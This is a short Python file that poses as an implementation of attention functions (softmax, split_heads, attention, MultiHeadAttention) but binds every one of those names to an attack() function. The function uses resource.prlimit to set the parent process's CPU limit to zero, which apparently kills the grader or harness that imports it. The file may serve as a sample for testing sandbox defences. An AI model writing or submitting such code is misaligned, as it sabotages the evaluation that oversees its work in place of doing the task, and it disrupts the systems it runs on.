"""Takes its parent's processor time away."""

import os
import resource


def attack(*args, **kwargs):
    resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (0, 0))


softmax = split_heads = attention = merge_heads = MultiHeadAttention = attack
